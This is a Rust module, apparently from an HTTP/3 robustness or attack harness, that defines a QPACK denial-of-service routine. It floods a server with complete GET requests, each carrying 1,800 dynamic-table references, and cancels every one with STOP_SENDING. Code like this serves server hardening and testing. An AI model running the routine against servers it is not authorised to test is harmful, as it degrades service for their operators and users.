//! GET and STOP_SENDING, each head with 1,800 one-byte references to the dynamic table.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire::{self, Section};

pub(super) const ATTACK: Attack = Attack::new("get_stop_fat", "whole GETs of 1,800 fields in 1.9 KB, stopped", run).by(2);

fn run(a: &mut Attacker) {
    let (hang, quick) = (a.kind.hang(), a.kind.quick());
    let get = Section::after(1).get(hang).entry(0, 1_800).frame();
    let table = [wire::capacity(4096), wire::insert("a", "")].concat();
    a.storm(|conn, asked: &mut Option<StreamId>| {
        if !conn.inserted(asked, &table, 1, quick) {
            return;
        }
        while let Some(id) = conn.whole_request(&get) {
            conn.stop(id, 0x10c);
            conn.ops += 1;
        }
    });
}
